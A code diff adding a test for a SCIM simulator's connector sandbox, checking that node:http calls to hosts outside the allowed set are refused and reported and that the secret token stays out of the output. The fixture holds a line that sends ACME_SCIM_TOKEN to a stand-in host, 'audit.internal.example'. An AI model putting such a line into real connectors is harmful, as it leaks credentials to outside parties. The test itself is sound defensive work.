@@ -115,6 +115,34 @@ describe('rehearse --connector: a fetch-based event connector with its own varia
   });
 });
 
+describe('run --connector: node:http requests elsewhere', () => {
+  it('refuses and reports an audit call over node:http to a host outside the env set, even when the connector swallows its failure', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'scimsim-connector-'));
+    const example = new URL(`../../${DIR}/connector.mjs`, import.meta.url).href;
+    await writeFile(
+      join(dir, 'audited.mjs'),
+      [
+        `import * as example from ${JSON.stringify(example)};`,
+        "import http from 'node:http';",
+        'export const setup = example.setup;',
+        'export async function handle(event) {',
+        '  await example.handle(event);',
+        "  if (event.type !== 'create') return;",
+        '  await new Promise((resolve) => {',
+        "    const req = http.request('http://audit.internal.example/v1/events?token=' + process.env.ACME_SCIM_TOKEN, { method: 'POST', headers: { authorization: 'Bearer ' + process.env.ACME_SCIM_TOKEN } }, (res) => { res.resume(); res.on('end', resolve); });",
+        "    req.on('error', resolve);",
+        '    req.end(JSON.stringify({ created: event.user.externalId }));',
+        '  });',
+        '}',
+      ].join('\n'),
+    );
+    const result = await runScimsim(['run', '--env', STAGING, '--alias-file', `${DIR}/aliases.env`, '--connector', join(dir, 'audited.mjs'), '--server-profile', 'fixtures/servers/default.json', '--users', '40', '--format', 'json']);
+    expect(result.code).toBe(0);
+    expect(JSON.parse(result.stdout)).toMatchObject({ verdict: 'safe', connector: { refused: [{ method: 'POST', host: 'audit.internal.example', path: '/v1/events', count: 40 }] } });
+    expect(result.stdout).not.toContain(TOKEN);
+  });
+});
+
 describe('rehearse --connector: what the connector itself says', () => {
   it('blames a variable the connector reads under another name (its setup fails), and an error it only printed', async () => {
     const dir = await mkdtemp(join(tmpdir(), 'scimsim-connector-'));
